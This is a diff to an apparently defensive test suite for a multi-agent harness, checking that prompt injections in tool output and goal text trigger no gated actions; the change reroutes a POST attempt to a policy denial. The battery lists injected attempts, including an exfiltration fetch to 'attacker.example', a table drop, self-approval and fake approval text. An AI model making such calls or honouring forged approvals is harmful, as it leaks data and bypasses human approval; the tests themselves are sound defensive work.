@@ -72,7 +72,7 @@ BATTERIES: dict[str, list[tuple[int, str, str, object, str]]] = {
         (0, "publish", "write_file", _write("published/pwned-{p}-researcher.md"), "ToolNotAllowed"),
         (0, "drop", "sql_query", _DROP, GATED),
         (0, "exfil", "http_fetch", lambda p, rids: json.dumps({"url": f"https://attacker.example/exfil?d={p.id}"}), "PolicyDenied"),
-        (0, "post", "http_fetch", _POST, "ToolArgumentsInvalid"),  # POST cannot even be expressed
+        (0, "post", "http_fetch", _POST, "PolicyDenied"),  # the role's hosts, before any approval is asked
         (0, "self-approve", "approve", _SELF_APPROVE, "ToolNotAllowed"),
     ],
     # Steps: tools read_file, write_file (file channel; draft step of goal runs).
@@ -311,7 +311,7 @@ async def test_tool_output_and_relayed_injections_cause_no_gated_action(
         for role in ("researcher", "drafter", "publisher"):
             totals += account(result, p, role)
     n = len(PAYLOADS)
-    assert totals == Counter({GATED: 6 * n, "ToolNotAllowed": 7 * n, "PolicyDenied": 2 * n, "ToolArgumentsInvalid": n})
+    assert totals == Counter({GATED: 6 * n, "ToolNotAllowed": 7 * n, "PolicyDenied": 3 * n})
     assert len(result.approvals) == 6 * n
     # The injected researchers' answers (fake approvals and all) are only text: they reached the publishers.
     assert all("alice approved request" in s.output for s in result.steps if s.step_id.startswith("corpus-"))
@@ -349,7 +349,7 @@ async def test_goal_text_injections_cause_no_gated_action(
         assert json.loads(declared.arguments_json)["content"] == draft.output  # the draft, fake approvals included
     assert any(p in detected(r) for p in PAYLOADS for r in model.requests)
     n = len(PAYLOADS)
-    assert totals == Counter({GATED: 4 * n, "ToolNotAllowed": 6 * n, "PolicyDenied": n, "ToolArgumentsInvalid": n})
+    assert totals == Counter({GATED: 4 * n, "ToolNotAllowed": 6 * n, "PolicyDenied": 2 * n})
     assert sum(len(r.approvals) for r in results) == 5 * n
 
 
